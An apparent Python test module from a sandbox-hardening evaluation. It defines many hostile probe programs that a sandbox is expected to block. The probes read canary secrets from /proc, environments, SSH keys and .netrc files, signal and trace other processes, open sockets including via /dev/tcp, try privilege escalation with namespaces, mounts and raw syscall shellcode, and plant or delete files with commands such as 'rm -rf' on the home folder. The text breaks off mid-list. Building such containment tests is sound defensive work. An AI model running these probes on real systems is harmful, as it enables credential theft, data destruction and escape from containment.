"""Programs that reach for what is not theirs: secrets, the home folder, other processes, the network, the next program.

What they reach for was laid out for them; see `bait`.
"""

from __future__ import annotations

import textwrap
from typing import Any

from evals.sandbox.hostile.program import JUDGED, NAME_ITSELF, NOT_PASSED, PASSED, Harm, Hostile
from evals.sandbox.verdict import Status

_OR_FORBIDDEN: frozenset[Status] = PASSED | {"forbidden", "crashed"}
_OR_ENDED: frozenset[Status] = _OR_FORBIDDEN | {"exited_early"}
_HELD = "assert answer() == 'held', answer()"

# `reach` says what it got; an OSError says that it was refused.
_TOOLS = """
import ctypes, glob, os, re, signal, socket, sys, time
def leak(data):
    found = re.search(rb'canary-[0-9a-f]{32}', data.encode() if isinstance(data, str) else data)
    return 'read ' + found[0].decode() if found else None
def read(path, size=10**6):
    with open(path, 'rb', 0) as file:
        return file.read(size)
def call(x86_64, aarch64, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long({'x86_64': x86_64, 'aarch64': aarch64}[os.uname().machine]),
                          *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def ancestors():
    pid = os.getppid()
    while pid > 0:
        yield pid
        with open(f'/proc/{pid}/stat') as file:
            pid = int(file.read().rsplit(')', 1)[1].split()[1])
"""
_RUN = """
try:
    found = reach()
except OSError:
    found = None
print(found)
def answer():
    return found or 'held'
"""

_HIDDEN = "a mount namespace: Landlock lets whoever owns a file change its rights, times and attributes"
_UNSEEN = "a process namespace: what belongs to the same user may be slowed down"
_NEEDS = {
    "others: the priority of a bystander": _UNSEEN,
    "others: the cores of a bystander": _UNSEEN,
    "plants: other rights on a file": _HIDDEN,
    "plants: another time on a file": _HIDDEN,
    "plants: an attribute on a file": _HIDDEN,
}


def _reach(name: str, harm: Harm, body: str, **changes: Any) -> Hostile:
    settings: dict[str, Any] = {"expected": _OR_FORBIDDEN, "needs": _NEEDS.get(name, ""), **changes}
    code = f"{NAME_ITSELF}{_TOOLS}def reach():\n{textwrap.indent(textwrap.dedent(body).strip(), '    ')}\n{_RUN}"
    return Hostile(name, "reaching_out", harm, code, _HELD, **settings)


_SECRETS = tuple(
    _reach(f"secrets: {name}", "reads a secret", body)
    for name, body in (
        ("the environment", "return leak(repr(dict(os.environ)))"),
        ("its own /proc environ", "return leak(read('/proc/self/environ'))"),
        (
            "the environment in its memory",
            """
            with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split('-'))
                    if 'rw' not in line or end - start > 2**26:
                        continue
                    try:
                        memory.seek(start)
                        data = memory.read(end - start)
                    except (OSError, OverflowError, ValueError):
                        continue
                    if leak(data):
                        return leak(data)""",
        ),
        ("the environment by a shell", "return leak(os.popen('env; set; export').read())"),
        (
            "environments of all processes",
            """
            for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/task/*/environ'):
                try:
                    data = read(path)
                except OSError:
                    continue
                if leak(data):
                    return leak(data)""",
        ),
        (
            "environments of its ancestors",
            """
            for pid in ancestors():
                if leak(read(f'/proc/{pid}/environ')):
                    return leak(read(f'/proc/{pid}/environ'))""",
        ),
        ("the environment of a bystander", "return leak(read('/proc/@BYSTANDER@/environ'))"),
        (
            "command lines of all processes",
            """
            for path in glob.glob('/proc/[0-9]*/cmdline'):
                if b'evals' in read(path) and int(path.split('/')[2]) == @HARNESS@:
                    return 'the command line of the harness'""",
        ),
        (
            "memory of its parent",
            """
            pid = os.getppid()
            with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as memory:
                return f'opened the memory of {pid}'""",
        ),
        (
            "memory of the harness",
            """
            with open('/proc/@HARNESS@/mem', 'rb', 0) as memory:
                return 'opened the memory of the harness'""",
        ),
        (
            "memory of a bystander",
            """
            with open('/proc/@BYSTANDER@/maps') as maps, open('/proc/@BYSTANDER@/mem', 'rb', 0) as memory:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split('-'))
                    if 'heap' in line or 'stack' in line or ('rw' in line and end - start < 2**23):
                        memory.seek(start)
                        data = memory.read(end - start)
                        if leak(data):
                            return leak(data)""",
        ),
        (
            "memory of a bystander by process_vm_readv",
            """
            class Part(ctypes.Structure):
                _fields_ = (('base', ctypes.c_void_p), ('size', ctypes.c_size_t))
            buffer = ctypes.create_string_buffer(64)
            here, there = Part(ctypes.addressof(buffer), 64), Part(0x400000, 64)
            try:
                call(310, 270, @BYSTANDER@, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            except OSError as error:
                # EFAULT: it was allowed, there is only nothing at that address.
                return 'was allowed to' if error.errno == 14 else None
            return 'read its memory'""",
        ),
        (
            "descriptors of a bystander",
            """
            names = os.listdir('/proc/@BYSTANDER@/fd')
            return f'listed {names}' if names else None""",
        ),
        (
            "a descriptor of a bystander by pidfd_getfd",
            """
            pidfd = call(434, 434, @BYSTANDER@, 0)
            call(438, 438, pidfd, 0, 0)
            return 'took a descriptor'""",
        ),
        (
            "descriptors of its parent",
            """
            for fd in os.listdir(f'/proc/{os.getppid()}/fd'):
                return 'listed ' + os.readlink(f'/proc/{os.getppid()}/fd/{fd}')""",
        ),
        (
            "the folder and root of a bystander",
            """
            for name in ('cwd', 'root', 'exe'):
                try:
                    return 'followed ' + name + ' to ' + str(os.listdir(f'/proc/@BYSTANDER@/{name}/')[:3])
                except OSError:
                    pass""",
        ),
        ("the Hub's token file", "return leak(read('@HOME@/.cache/huggingface/token'))"),
        ("an SSH key", "return leak(read('@HOME@/.ssh/id_ed25519'))"),
        ("a password file of the home folder", "return leak(read('@HOME@/.netrc'))"),
        ("the list of a home folder", "return f\"listed {os.listdir('@HOME@')}\""),
        (
            "a home folder by a walk",
            """
            for folder, _, names in os.walk('@HOME@'):
                for name in names:
                    return 'found ' + name""",
        ),
        (
            "a home folder through a link",
            """
            os.symlink('@HOME@', 'link')
            return leak(read('link/.netrc'))""",
        ),
        (
            "a home folder by a hard link",
            """
            os.link('@HOME@/.netrc', 'mine')
            return leak(read('mine'))""",
        ),
        ("a home folder from a child", "return leak(os.popen('cat @HOME@/.netrc @HOME@/notes.txt').read())"),
        (
            "a home folder up from its own",
            """
            up = '/'.join(['..'] * 30) + '@HOME@/.netrc'
            return leak(read(up))""",
        ),
        (
            "a home folder by a path of /proc",
            """
            for root in ('/proc/self/root', '/proc/1/root', f'/proc/{os.getppid()}/root', '/proc/thread-self/root'):
                try:
                    found = leak(read(root + '@HOME@/.netrc'))
                except OSError:
                    continue
                if found:
                    return found""",
        ),
        (
            "a home folder by a descriptor that is open",
            """
            for fd in range(64):
                for up in ('', '../' * 20):
                    try:
                        there = os.open((up + '@HOME@'.lstrip('/') + '/.netrc'), os.O_RDONLY, dir_fd=fd)
                    except OSError:
                        continue
                    found = leak(os.read(there, 100))
                    if found:
                        return found""",
        ),
        (
            "a home folder by name_to_handle_at",
            """
            handle = ctypes.create_string_buffer((128).to_bytes(4, 'little') + bytes(140))
            mount = ctypes.c_int()
            call(303, 264, -100, ctypes.c_char_p(b'@HOME@/.netrc'), handle, ctypes.byref(mount), 0)
            return 'got a handle'""",
        ),
        (
            "a home folder by openat2",
            """
            how = (ctypes.c_uint64 * 3)(0, 0, 0)
            fd = call(437, 437, -100, ctypes.c_char_p(b'@HOME@/.netrc'), how, 24)
            return leak(os.read(fd, 100))""",
        ),
        (
            "what happens in a home folder",
            """
            watcher = call(294, 26, 0)
            call(254, 27, watcher, ctypes.c_char_p(b'@HOME@'), 0xfff)
            return 'watches it'""",
        ),
        ("the files of a project", "return leak(read('@PROJECT@/notes.txt')) or leak(read('@PROJECT@/.netrc'))"),
        (
            "the home folder of the user",
            """
            import pwd
            try:
                home = pwd.getpwuid(@UID@).pw_dir
            except KeyError:
                return None
            way = os.path.realpath(sys.base_prefix), os.path.realpath(sys.prefix), os.path.dirname(os.__file__)
            if home in ('/', '/nonexistent', '') or not home.startswith('/'):
                return None
            others = [name for name in os.listdir(home)
                      if not any(path.startswith(os.path.join(home, name)) for path in way)]
            return f'listed {others[:3]}' if others and os.path.realpath(home) != os.path.realpath('.') else None""",
        ),
        (
            "/etc/shadow and the like",
            """
            for path in ('/etc/shadow', '/etc/gshadow', '/etc/sudoers', 
                         '/etc/ssh/ssh_host_ed25519_key',
                         '/proc/kcore', '/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda',
                         '/var/run/docker.sock'):
                try:
                    with open(path, 'rb', 0) as file:
                        return 'opened ' + path
                except OSError:
                    pass""",
        ),
        (
            "the kernel's log",
            """
            text = ctypes.create_string_buffer(4096)
            call(103, 116, 3, text, 4096)
            return 'read the log' if text.value else None""",
        ),
        (
            "kernel keys",
            """
            key = call(248, 217, ctypes.c_char_p(b'user'), ctypes.c_char_p(b'@TAG@'), ctypes.c_char_p(b'x'), 1, -3)
            return f'made key {key}'""",
        ),
        (
            "keys of the session",
            """
            text = ctypes.create_string_buffer(1000)
            call(250, 219, 0, -3, 1)
            return 'reached the keyring of the session'""",
        ),
        (
            "inherited descriptors",
            """
            for fd in range(3, 256):
                try:
                    path = os.readlink(f'/proc/self/fd/{fd}')
                except OSError:
                    continue
                library = os.path.realpath(os.path.dirname(os.__file__)), sys.base_prefix, sys.prefix
                ours = path.startswith(library)
                if 'evals-bait' in path or (path.startswith(('/home', '/root', '/etc')) and not ours):
                    return f'has {path} open'""",
        ),
        (
            "other files of temporary folders",
            """
            for base in ('/tmp', '/var/tmp', '/dev/shm'):
                for folder, folders, names in os.walk(base):
                    for name in names[:100]:
                        try:
                            found = leak(read(os.path.join(folder, name), 4096))
                        except OSError:
                            continue
                        if found:
                            return found""",
        ),
        (
            "the screen and terminal",
            """
            for path in ('/dev/tty', '/dev/console', '/dev/tty0', '/dev/vcs', '/dev/pts/0', '/dev/fb0',
                         '/dev/input/event0'):
                try:
                    os.close(os.open(path, os.O_RDWR | os.O_NOCTTY))
                    return 'opened ' + path
                except OSError:
                    pass""",
        ),
        (
            "what is mounted elsewhere",
            """
            import stat
            for line in read('/proc/self/mountinfo').decode().splitlines():
                place = line.split()[4]
                if place.startswith(('/home', '/root', '/mnt', '/media', '/work')) and os.path.isdir(place):
                    names = os.listdir(place)
                    way = os.path.realpath(sys.base_prefix), os.path.realpath(sys.prefix), os.getcwd()
                    if names and not any(p.startswith(place) or place.startswith(p) for p in way):
                        return f'listed {place}'""",
        ),
    )
)

_OTHERS = tuple(
    _reach(f"others: {name}", "damages", body)
    for name, body in (
        ("ends a bystander", "os.kill(@BYSTANDER@, signal.SIGKILL)\nreturn 'was allowed to'"),
        ("terminates a bystander", "os.kill(@BYSTANDER@, signal.SIGTERM)\nreturn 'was allowed to'"),
        ("stops a bystander", "os.kill(@BYSTANDER@, signal.SIGSTOP)\nreturn 'was allowed to'"),
        (
            "signals a bystander by pidfd",
            "signal.pidfd_send_signal(os.pidfd_open(@BYSTANDER@), signal.SIGUSR1)\nreturn 'was allowed to'",
        ),
        ("signals a bystander by tgkill", "call(234, 131, @BYSTANDER@, @BYSTANDER@, 10)\nreturn 'was allowed to'"),
        (
            "signals a bystander by a queue",
            "call(129, 138, @BYSTANDER@, 10, ctypes.create_string_buffer(128))\nreturn 'was allowed to'",
        ),
        (
            "signals a bystander by the owner of a pipe",
            """
            import fcntl
            r, w = os.pipe()
            fcntl.fcntl(r, fcntl.F_SETOWN, @BYSTANDER@)
            fcntl.fcntl(r, 10, signal.SIGUSR1)
            fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(w, b'x')""",
        ),
        ("signals the group of a bystander", "os.killpg(@BYSTANDER@, signal.SIGWINCH)\nreturn 'was allowed to'"),
        # A signal that is ignored by default: a hole shows in the bystander alone.
        ("signals everybody", "os.kill(-1, signal.SIGWINCH)"),
        (
            "asks after the harness",
            "os.kill(@HARNESS@, 0)\nreturn 'was allowed to' if @HARNESS@ != os.getpid() and "
            "b'@TAG@' not in read('/proc/@HARNESS@/comm') and @HARNESS@ > 300 else None",
        ),
        ("traces a bystander", "call(101, 117, 0x4206, @BYSTANDER@, 0, 0)\nreturn 'was allowed to'"),
        ("traces its parent", "call(101, 117, 0x4206, os.getppid(), 0, 0)\nreturn 'was allowed to'"),
        ("the priority of a bystander", "os.setpriority(os.PRIO_PROCESS, @BYSTANDER@, 19)\nreturn 'was allowed to'"),
        (
            "the priority of a bystander's user",
            "os.setpriority(os.PRIO_USER, @UID@, 1)\nreturn 'was allowed to' if os.getuid() != @UID@ else None",
        ),
        ("the cores of a bystander", "os.sched_setaffinity(@BYSTANDER@, [0])\nreturn 'was allowed to'"),
        (
            "the limits of a bystander",
            """
            import resource
            resource.prlimit(@BYSTANDER@, resource.RLIMIT_NOFILE, (20, 20))
            return 'was allowed to'""",
        ),
        (
            "the input of a bystander",
            "with open('/proc/@BYSTANDER@/fd/0', 'wb') as file:\n    file.write(b'x')\nreturn 'was allowed to'",
        ),
        (
            "the scores of a bystander for lack of memory",
            "with open('/proc/@BYSTANDER@/oom_score_adj', 'w') as file:\n"
            "    file.write('1000')\nreturn 'was allowed to'",
        ),
        ("input/output priority", "call(251, 30, 1, @BYSTANDER@, (3 << 13))\nreturn 'was allowed to'"),
        ("kcmp", "call(312, 272, os.getpid(), @BYSTANDER@, 0, 0, 0)\nreturn 'was allowed to'"),
        ("a better priority of its own", "os.nice(-5)\nreturn 'was allowed to'"),
        ("a real-time priority", "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))\nreturn 'was allowed to'"),
        (
            "typing into the terminal",
            """
            import fcntl
            for fd in range(3):
                try:
                    fcntl.ioctl(fd, 0x5412, b'#')
                    return 'typed'
                except OSError:
                    pass""",
        ),
    )
)

_PARENT = tuple(
    Hostile(
        f"parent: {name}",
        "reaching_out",
        "hangs",
        f"{NAME_ITSELF}import os, signal, time\n{code}",
        "assert add(1, 2) == 3",
        NOT_PASSED,
    )
    for name, code in (
        ("ends it", "os.kill(os.getppid(), 9)\ntime.sleep(20)"),
        ("stops it", "os.kill(os.getppid(), signal.SIGSTOP)\ntime.sleep(20)"),
        ("ends it when called", "def add(a, b):\n    os.kill(os.getppid(), 9)\n    time.sleep(20)"),
        ("stops it when called", "def add(a, b):\n    os.kill(os.getppid(), signal.SIGSTOP)\n    time.sleep(20)"),
        ("interrupts it", "def add(a, b):\n    os.kill(os.getppid(), signal.SIGINT)\n    return 0"),
        (
            "ends all that it can",
            "def add(a, b):\n    if os.getppid() in (0, 1) or os.getuid() >= 60_000: os.kill(-1, 9)\n    return 0",
        ),
        (
            "stops all that it can",
            "def add(a, b):\n"
            "    if os.getppid() in (0, 1) or os.getuid() >= 60_000: os.kill(-1, "
            "signal.SIGSTOP)\n"
            "    time.sleep(20)",
        ),
        ("ends its group", "def add(a, b):\n    if os.getpgid(0) == os.getpid(): os.killpg(0, 9)\n    return 0"),
        (
            "its sisters",
            """def add(a, b):
    for name in filter(str.isdigit, os.listdir('/proc')):
        try:
            with open(f'/proc/{name}/stat') as file:
                parent = int(file.read().rsplit(')', 1)[1].split()[1])
            if parent == os.getppid() and int(name) != os.getpid(): os.kill(int(name), 9)
        except OSError: pass
    return 0""",
        ),
    )
)

_TALK = """
with socket.socket(socket.{family}, socket.{kind}) as s:
    s.settimeout(1)
    s.connect({address})
    s.send(b'@TAG@')
    return 'reached it'
"""


def _talk(family: str, kind: str, address: str) -> str:
    return _TALK.format(family=family, kind=kind, address=address)


def _family(number: int, kind: int = 3, protocol: int = 0) -> str:
    return f"fd = call(41, 198, {number}, {kind}, {protocol})\nreturn 'has such a socket'"


_NETWORK = tuple(
    _reach(f"network: {name}", "reaches the network", body)
    for name, body in (
        ("TCP on this machine", _talk("AF_INET", "SOCK_STREAM", "('127.0.0.1', @TCP@)")),
        ("TCP on this machine, version 6", _talk("AF_INET6", "SOCK_STREAM", "('::1', @TCP6@)")),
        ("TCP by another name", _talk("AF_INET", "SOCK_STREAM", "('0.0.0.0', @TCP@)")),
        ("TCP mapped into version 6", _talk("AF_INET6", "SOCK_STREAM", "('::ffff:127.0.0.1', @TCP@)")),
        (
            "TCP with a fast open",
            "with socket.socket() as s:\n"
            "    s.sendto(b'@TAG@', 0x20000000, ('127.0.0.1', @TCP@))\n"
            "    return 'reached it'",
        ),
        (
            "TCP from a child",
            "os.system('exec 3<>/dev/tcp/127.0.0.1/@TCP@ && echo @TAG@ >&3')\n"
            "os.system(\"bash -c 'exec 3<>/dev/tcp/127.0.0.1/@TCP@ && echo @TAG@ >&3'\")",
        ),
        (
            "UDP on this machine",
            "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n"
            "    s.sendto(b'@TAG@', ('127.0.0.1', @UDP@))\n    time.sleep(0.1)",
        ),
        ("HTTP", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:@TCP@/@TAG@', timeout=1)"),
        ("a Unix socket by its path", _talk("AF_UNIX", "SOCK_STREAM", "'@SOCKET@'")),
        (
            "a Unix socket by its path, from one of a pair",
            "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
            "a.sendto(b'@TAG@', '@DATAGRAMS@')\nreturn 'reached it'",
        ),
        ("a Unix socket without a path", _talk("AF_UNIX", "SOCK_STREAM", "'\\0@ABSTRACT@'")),
        ("names of other machines", "got = socket.getaddrinfo('example.com', 80)\nreturn f'found {got[0][4]}'"),
        ("a machine outside", _talk("AF_INET", "SOCK_STREAM", "('192.0.2.1', 80)")),
        (
            "a port of its own for others",
            "with socket.create_server(('127.0.0.1', 0)) as s, socket.create_connection("
            "s.getsockname()) as c:\n    names = [n for _, n in socket.if_nameindex() if n != 'lo']\n"
            "    return f'serves beside {names}' if names else None",
        ),
        (
            "the list of interfaces",
            "names = [n for _, n in socket.if_nameindex() if n != 'lo']\nreturn f'sees {names}' if names else None",
        ),
        ("raw packets", _family(17)),
        ("raw IP", _family(2, 3, 255)),
        ("virtual machines", _family(40, 1)),
        ("the kernel's cryptography", _family(38, 5)),
        ("Bluetooth", _family(31, 3)),
        ("TIPC", _family(30, 1)),
        ("CAN", _family(29, 3, 1)),
        ("key management", _family(15, 3, 2)),
        ("SCTP", _family(2, 1, 132)),
        ("netlink audit", _family(16, 3, 9)),
        ("XDP", _family(44, 3)),
        ("SMC", _family(43, 1)),
        ("RDS", _family(21, 5)),
        (
            "a descriptor from outside by a Unix socket",
            """
            with socket.socket(socket.AF_UNIX) as s:
                for path in ('/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private',
                             '/dev/log', '/run/user/@UID@/bus', '/tmp/.X11-unix/X0', '/run/containerd/containerd.sock'):
                    try:
                        s.connect(path)
                        return 'reached ' + path
                    except OSError:
                        pass""",
        ),
    )
)

_KERNEL = tuple(
    _reach(f"kernel: {name}", "damages", body)
    for name, body in (
        (
            "root again",
            """
            for attempt in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setreuid(0, 0),
                            lambda: os.setgid(0), lambda: os.setgroups([0])):
                try:
                    attempt()
                    if os.getuid() != 0 or '0 0 1' not in ' '.join(read('/proc/self/uid_map').decode().split()):
                        return 'changed its user' if open('/proc/self/uid_map').read().split() == [
                            '0', '0', '4294967295'] else None
                except OSError:
                    pass""",
        ),
        (
            "rights of root",
            """
            status = read('/proc/self/status').decode()
            rights = int(status.split('CapEff:')[1].split()[0], 16) | int(status.split('CapPrm:')[1].split()[0], 16)
            return f'has rights {rights:x}' if rights else None""",
        ),
        (
            "rights by programs",
            """
            status = read('/proc/self/status').decode()
            return None if status.split('NoNewPrivs:')[1].split()[0] == '1' else 'may gain rights'""",
        ),
        (
            "sudo and su",
            "for command in ('sudo -n id -u', 'su -c \"id -u\" </dev/null', 'pkexec id -u', 'mount -t "
            "tmpfs x /mnt'):\n"
            "    if os.popen(command + ' 2>/dev/null').read().strip() == '0': return 'is root by ' + "
            "command",
        ),
        ("a user namespace", "call(272, 97, 0x10000000)\nreturn 'made one'"),
        (
            "a user namespace by clone",
            """
            pid = call(56, 220, 0x10000000 | 17, 0, 0, 0, 0)
            if pid == 0:
                os._exit(0)
            os.waitpid(pid, 0)
            return 'made one'""",
        ),
        (
            "a user namespace by clone3",
            """
            arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
            pid = call(435, 435, arguments, 88)
            if pid == 0:
                os._exit(0)
            return 'made one'""",
        ),
        ("a mount namespace", "call(272, 97, 0x20000)\nreturn 'made one'"),
        ("a namespace by unshare", "return 'made one' if os.system('unshare -Ur true 2>/dev/null') == 0 else None"),
        (
            "the namespaces of a bystander",
            """
            for kind in ('mnt', 'net', 'pid', 'user', 'ipc'):
                try:
                    fd = os.open(f'/proc/@BYSTANDER@/ns/{kind}', os.O_RDONLY)
                    call(308, 268, fd, 0)
                    return 'entered ' + kind
                except OSError:
                    pass""",
        ),
        (
            "the namespaces of a parent",
            """
            fd = os.open(f'/proc/{os.getppid()}/ns/net', os.O_RDONLY)
            call(308, 268, fd, 0)
            return 'entered'""",
        ),
        (
            "mount",
            "call(165, 40, ctypes.c_char_p(b'none'), ctypes.c_char_p(os.getcwd().encode()), "
            "ctypes.c_char_p(b'tmpfs'), 0, 0)\n"
            "return 'mounted'",
        ),
        (
            "mount of its own folder over another",
            """
            call(165, 40, ctypes.c_char_p(b'.'), ctypes.c_char_p(b'/usr'), 0, 4096, 0)
            return 'mounted'""",
        ),
        ("umount", "call(166, 39, ctypes.c_char_p(b'/proc'), 2)\nreturn 'unmounted'"),
        ("mount made writable again", "call(165, 40, 0, ctypes.c_char_p(b'/'), 0, 32 | 4096, 0)\nreturn 'remounted'"),
        ("the new mount calls", "call(430, 430, ctypes.c_char_p(b'tmpfs'), 0)\nreturn 'opened a file system'"),
        ("open_tree", "call(428, 428, -100, ctypes.c_char_p(b'/'), 1)\nreturn 'cloned a tree'"),
        (
            "chroot and out again",
            """
            os.mkdir('jail')
            os.chroot('jail')
            return 'changed its root'""",
        ),
        ("pivot_root", "call(155, 41, ctypes.c_char_p(b'.'), ctypes.c_char_p(b'.'))\nreturn 'changed its root'"),
        ("a device file", "import stat\nos.mknod('device', 0o600 | stat.S_IFBLK, os.makedev(8, 0))\nreturn 'made one'"),
        (
            "a set-user-id file that works",
            """
            with open('shell', 'w') as file:
                file.write('x')
            os.chown('shell', 0, 0)
            os.chmod('shell', 0o4755)
            return 'made one' if open('/proc/self/uid_map').read().split() == ['0', '0', '4294967295'] else None""",
        ),
        ("bpf", "call(321, 280, 0, (ctypes.c_uint32 * 32)(1, 4, 8, 1), 128)\nreturn 'made a map'"),
        (
            "performance counters",
            "call(298, 241, (ctypes.c_uint64 * 16)(1 | 128 << 32, 1), 0, -1, -1, 0)\nreturn 'opened one'",
        ),
        ("userfaultfd", "call(323, 282, 1)\nreturn 'opened one'"),
        ("io_uring", "call(425, 425, 4, (ctypes.c_uint32 * 64)())\nreturn 'opened one'"),
        ("fanotify", "call(300, 262, 0, 0)\nreturn 'opened one'"),
        ("loading a module", "call(313, 273, 0, ctypes.c_char_p(b''), 0)\nreturn 'was allowed to'"),
        ("reboot", "call(169, 142, 0, 0, 0, 0)\nreturn 'was allowed to'"),
        ("swap", "call(168, 225, ctypes.c_char_p(b'/no-such'))\nreturn 'was allowed to'"),
        ("the clock", "time.clock_settime(time.CLOCK_REALTIME, time.time())\nreturn 'set it'"),
        ("the host's name", "socket.sethostname('@TAG@')\nreturn 'set it'"),
        (
            "the kernel's settings",
            """
            for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/vm/overcommit_memory', '/proc/sysrq-trigger',
                         '/proc/sys/kernel/hostname', '/sys/kernel/uevent_helper'):
                try:
                    os.close(os.open(path, os.O_WRONLY))
                    return 'opened ' + path
                except OSError:
                    pass""",
        ),
        (
            "control groups",
            """
            for folder, folders, names in os.walk('/sys/fs/cgroup'):
                for name in names:
                    if name in ('cgroup.procs', 'memory.max', 'pids.max', 'cgroup.kill'):
                        try:
                            os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
                            return 'opened ' + name
                        except OSError:
                            pass""",
        ),
        (
            "a control group of its own",
            "os.mkdir('/sys/fs/cgroup/@TAG@')\nos.rmdir('/sys/fs/cgroup/@TAG@')\nreturn 'made one'",
        ),
        ("another personality", "call(135, 92, 0x0040000)\nreturn 'turned off random addresses'"),
        (
            "its core limit",
            "import resource\nreturn None if resource.getrlimit(resource.RLIMIT_CORE)[0] == 0 else 'writes cores'",
        ),
        ("a seccomp listener", "call(317, 277, 1, 8, (ctypes.c_uint64 * 2)())\nreturn 'made one'"),
        (
            "x32 system calls",
            "if os.uname().machine != 'x86_64':\n    return None\n"
            "libc = ctypes.CDLL(None)\nlibc.syscall(ctypes.c_long(0x40000000 + 101), 0, 0, 0, 0)",
        ),
        (
            "system calls of 32 bits",
            """
            # int 0x80 with getpid's number: the filter's table is another one there.
            if os.uname().machine != 'x86_64':
                return None
            import mmap
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            # unshare is 310 there: mov eax, 310; mov ebx, 0x10000000; int 0x80; ret
            page.write(b'\\x53\\xb8' + (310).to_bytes(4, 'little') + b'\\xbb' + (0x10000000).to_bytes(4, 'little')
                       + b'\\xcd\\x80\\x5b\\xc3')
            function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
            return 'made a user namespace' if function() == 0 else None""",
        ),
        (
            "memory locked",
            "call(149, 228, 0, 0)\nlibc = ctypes.CDLL(None)\n"
            "return 'locked all its memory' if libc.mlockall(3) == 0 else None",
        ),
    )
)

_PLANTED = tuple(
    _reach(f"plants: {name}", "damages", body)
    for name, body in (
        (
            "a module among the library's",
            """
            path = os.path.dirname(os.__file__) + '/@TAG@.py'
            with open(path, 'w') as file:
                file.write('x = 1')
            return 'planted ' + path""",
        ),
        (
            "a .pth file",
            """
            import site, sysconfig
            for folder in {sysconfig.get_paths()['purelib'], sysconfig.get_paths()['platlib'], *site.getsitepackages()}:
                try:
                    with open(f'{folder}/@TAG@.pth', 'w') as file:
                        file.write('import os')
                    return 'planted ' + folder
                except OSError:
                    pass""",
        ),
        (
            "a compiled module",
            """
            folder = os.path.dirname(os.__file__) + '/__pycache__'
            with open(folder + '/@TAG@.pyc', 'wb') as file:
                file.write(b'x')
            os.unlink(folder + '/@TAG@.pyc')
            return 'planted it'""",
        ),
        (
            "the interpreter itself",
            """
            fd = os.open(os.path.realpath(sys.executable), os.O_WRONLY)
            os.close(fd)
            return 'opened it to write'""",
        ),
        (
            "the library's files",
            """
            fd = os.open(os.__file__, os.O_WRONLY)
            os.close(fd)
            return 'opened it to write'""",
        ),
        (
            "the harness's own files",
            """
            for name, module in list(sys.modules.items()):
                path = getattr(module, '__file__', None)
                if path and os.path.exists(path):
                    try:
                        os.close(os.open(path, os.O_WRONLY))
                        return 'opened ' + path
                    except OSError:
                        pass""",
        ),
        (
            "a shared library that others load",
            """
            for path in ('/etc/ld.so.preload', '/etc/ld.so.cache', '/usr/lib/@TAG@.so', '/lib/@TAG@.so'):
                try:
                    os.close(os.open(path, os.O_WRONLY | os.O_CREAT))
                    return 'opened ' + path
                except OSError:
                    pass""",
        ),
        (
            "in the home folder",
            "with open('@HOME@/.bashrc', 'w') as file:\n    file.write('evil')\nreturn 'planted it'",
        ),
        (
            "over a file of the home folder",
            "with open('@HOME@/.ssh/id_ed25519', 'a') as file:\n    file.write('evil')\nreturn 'changed it'",
        ),
        ("a deletion in the home folder", "os.unlink('@HOME@/notes.txt')\nreturn 'deleted it'"),
        ("a deletion of the home folder", "import shutil\nshutil.rmtree('@HOME@')\nreturn 'deleted it'"),
        ("a rename in the home folder", "os.rename('@HOME@/notes.txt', '@HOME@/other.txt')\nreturn 'renamed it'"),
        ("other rights on a file", "os.chmod('@HOME@/notes.txt', 0o777)\nreturn 'changed them'"),
        ("an emptied file", "os.truncate('@HOME@/notes.txt', 0)\nreturn 'emptied it'"),
        ("another time on a file", "os.utime('@HOME@/notes.txt', (0, 0))\nreturn 'changed it'"),
        ("an attribute on a file", "os.setxattr('@HOME@/notes.txt', 'user.x', b'x')\nreturn 'changed it'"),
        (
            "a lock on a file",
            "import fcntl\nwith open('@HOME@/notes.txt', 'r+') as file:\n    fcntl.flock(file, 2)\n"
            "    return 'locked it'",
        ),
        ("by a shell", "os.system('rm -rf @HOME@/* @HOME@/.netrc; touch @HOME@/@TAG@')"),
        (
            "in the project",
            "with open('@PROJECT@/conftest.py', 'w') as file:\n    file.write('evil')\nreturn 'planted it'",
        ),
        (
            "through a link out of its folder",
            "os.symlink('@HOME@', 'out')\nwith open('out/planted', 'w') as file:\n"
            "    file.write('x')\n"
            "return 'planted it'",
        ),
        (
            "in every folder of the machine",
            """
            for folder in ('/', '/etc', '/etc/cron.d', '/opt', '/srv', '/usr/local/bin', '/usr/local/lib', '/var/lib',
                           '/run', '/run/lock', '/var/spool/cron', '/boot', '/home'):
                try:
                    with open(f'{folder}/@TAG@', 'w') as file:
                        file.write('x')
                    os.unlink(f'{folder}/@TAG@')
                    inside = os.stat(folder).st_dev == os.stat('.').st_dev
                    if not inside and 'tmpfs' not in [line.split(' - ')[1].split()[0] for line in
                            open('/proc/self/mountinfo') if line.split()[4] == folder]:
                        return 'wrote to ' + folder
                except OSError:
                    pass""",
        ),
        ("a System V segment", "key = call(29, 194, @KEY@, 4096, 0o1666)\nreturn None"),
        ("a System V semaphore", "key = call(64, 190, @KEY@, 1, 0o1666)\nreturn None"),
        ("a System V queue", "key = call(68, 186, @KEY@, 0o1666)\nreturn None"),
